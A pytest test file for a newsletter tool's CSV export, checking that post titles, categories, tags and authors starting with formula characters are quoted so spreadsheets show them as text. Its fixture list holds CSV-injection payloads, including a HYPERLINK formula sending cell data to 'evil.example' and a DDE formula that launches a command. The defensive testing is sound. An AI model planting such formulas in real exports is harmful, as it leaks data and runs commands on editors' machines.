"""Issue 14: CSV for spreadsheets never carries a formula (OWASP "CSV Injection").

A post title is written by whoever writes posts; an editor opens ``posts --format csv`` in
Excel or LibreOffice. A cell that starts with ``= + - @``, a tab or a CR must stay text.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import digestmail
from digestmail.cli.listing import spreadsheet_safe
from tests.helpers.cli import clean_env

SRC = Path(digestmail.__file__).resolve().parent.parent

CONFIG = """\
[site]
title = "Testnetz Beteiligung"
base_url = "https://example.org/"
timezone = "Europe/Berlin"

[lists.monthly]
from = "Tipps <tipps@example.org>"
subscribers = "config/subscribers/monthly.csv"
categories = ["veranstaltungstipp"]
unsubscribe_mailto = "abmelden@example.org"
"""

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Mehr")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("", ""),
        ("Werkstatt = Treffpunkt", "Werkstatt = Treffpunkt"),
        ("'schon zitiert", "'schon zitiert"),
        ("2017-11-10T00:00:00+01:00", "2017-11-10T00:00:00+01:00"),
    ],
)
def test_spreadsheet_safe_quotes_only_formula_starts(text: str, safe: str) -> None:
    assert spreadsheet_safe(text) == safe


def project(tmp_path: Path) -> Path:
    cfg = tmp_path / "config" / "digestmail.toml"
    (tmp_path / "config" / "subscribers").mkdir(parents=True)
    cfg.write_text(CONFIG, encoding="utf-8")
    (tmp_path / "config" / "subscribers" / "monthly.csv").write_text(
        "email\nanna@example.org\n", encoding="utf-8"
    )
    content = tmp_path / "content" / "veranstaltungstipp"
    content.mkdir(parents=True)
    for number, title in enumerate(FORMULAS):
        front = {
            "title": title,
            "date": f"2017-11-{10 + number}",
            "categories": ["veranstaltungstipp", "=1+2"],
            "tags": ["harmlos", "@tag"],
            "author": "-Anonym",
        }
        (content / f"tipp-{number}.md").write_text(
            json.dumps(front, ensure_ascii=False) + "\nText.\n", encoding="utf-8"
        )
    return cfg


def posts(cfg: Path, fmt: str, *extra: str) -> str:
    env = clean_env()
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(SRC), env.get("PYTHONPATH")]))
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "digestmail",
            "--config",
            str(cfg),
            "posts",
            "--format",
            fmt,
            *extra,
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.mark.parametrize("extra", [(), ("--list", "monthly", "--period", "2017-11")])
def test_posts_csv_keeps_formula_titles_as_text(tmp_path: Path, extra: tuple[str, ...]) -> None:
    cfg = project(tmp_path)
    rows = list(csv.DictReader(io.StringIO(posts(cfg, "csv", *extra))))
    assert sorted(row["title"] for row in rows) == sorted("'" + title for title in FORMULAS)
    for row in rows:
        assert row["categories"] == "veranstaltungstipp;'=1+2"  # every item, not only the first
        assert row["tags"] == "harmlos;'@tag"
        assert row["author"] == "'-Anonym"
        assert row["date"].startswith("2017-11-")  # ordinary cells are left alone
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_posts_json_keeps_the_titles_exactly(tmp_path: Path) -> None:
    """Scripts read JSON: escaping is for spreadsheets only."""
    cfg = project(tmp_path)
    rows = json.loads(posts(cfg, "json"))
    assert sorted(row["title"] for row in rows) == sorted(FORMULAS)
